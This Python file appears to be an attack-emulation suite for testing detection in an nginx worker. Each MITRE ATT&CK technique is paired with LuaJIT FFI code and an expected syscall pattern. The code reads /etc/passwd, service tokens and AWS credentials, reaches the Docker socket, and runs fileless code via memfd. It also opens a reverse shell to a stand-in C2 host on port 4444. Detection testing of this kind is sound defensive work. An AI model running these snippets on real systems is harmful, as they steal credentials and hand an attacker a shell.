"""What a worker of nginx does by foreign functions, as shellcode would."""

from attacks.inside import inside
from attacks.places import HOME, TOKEN
from node import OUTSIDE

C2 = OUTSIDE.replace(".", ", ")
ATTACKS = [
    inside(
        "T1005",
        "the worker reads the accounts",
        'return done(C.open("/etc/passwd", 0) > 0)',
        ("open", r"^/etc/passwd$"),
    ),
    inside(
        "T1528",
        "the worker reads the service account's token",
        f'return done(C.open("{TOKEN}", 0) > 0)',
        ("open", r"/token$"),
    ),
    inside(
        "T1552.001",
        "the worker reads a cloud credential",
        f'return done(C.open("{HOME}/.aws/credentials", 0) > 0)',
        ("open", r"/\.aws/credentials$"),
    ),
    inside(
        "T1552.007",
        "the worker speaks to the engine's socket",
        """
        local s, name = C.socket(1, 1, 0), ffi.new("uint8_t[110]", {1, 0})
        ffi.copy(name + 2, "/run/docker.sock")
        return done(C.connect(s, name, 110) == 0)""",
        ("connect", r"/docker\.sock"),
    ),
    inside(
        "T1071.001",
        "the worker connects to its master",
        f"""
        local s = C.socket(2, 1, 0)
        local worked = C.connect(s, address(443, {C2}), 16) == 0
        C.close(s)
        return done(worked)""",
        ("connect", r":443$"),
    ),
    inside(
        "T1571",
        "the worker listens at a port of its own",
        """
        local s = C.socket(2, 1, 0)
        local worked = C.bind(s, address(4545, 0, 0, 0, 0), 16) == 0 and C.listen(s, 1) == 0
        C.close(s)
        return done(worked)""",
        ("listen", r":4545$"),
    ),
    inside(
        "T1074.001", "the worker lays data down", 'return done(C.creat("/tmp/.w", 420) > 0)', ("open", r"^/tmp/\.w$")
    ),
    inside(
        "T1620",
        "the worker runs what has no file",
        """
        local m, f = C.memfd_create("w", 0), C.open("/bin/true", 0)
        local data, size = ffi.new("char[65536]"), 0
        repeat size = C.read(f, data, 65536); C.write(m, data, size) until size <= 0
        return done(run("/proc/self/fd/" .. tonumber(m)))""",
        ("exec", r"memfd:"),
        ("open", r"/bin/true$"),
    ),
    inside(
        "T1059.004",
        "the worker gives the attacker a shell",
        f"""
        local child = C.fork()
        if child == 0 then
          local s = C.socket(2, 1, 0)
          C.connect(s, address(4444, {C2}), 16)
          for d = 0, 2 do C.dup2(s, d) end
          C.execl("/bin/sh", "sh", nil)
          C._exit(1)
        end
        return done(child > 0)""",
        ("exec", r"/(dash|sh)$"),
        ("connect", r":4444$"),
    ),
    inside(
        "T1129",
        "the worker loads a library of the attacker's",
        """
        local f, m = C.open("/tmp/front.so", 0), C.creat("/tmp/mod.so", 493)
        local data, size = ffi.new("char[65536]"), 0
        repeat size = C.read(f, data, 65536); C.write(m, data, size) until size <= 0
        C.close(m)
        return done(C.dlopen("/tmp/mod.so", 2) ~= nil)""",
        ("open", r"^/tmp/mod\.so$"),
    ),
]
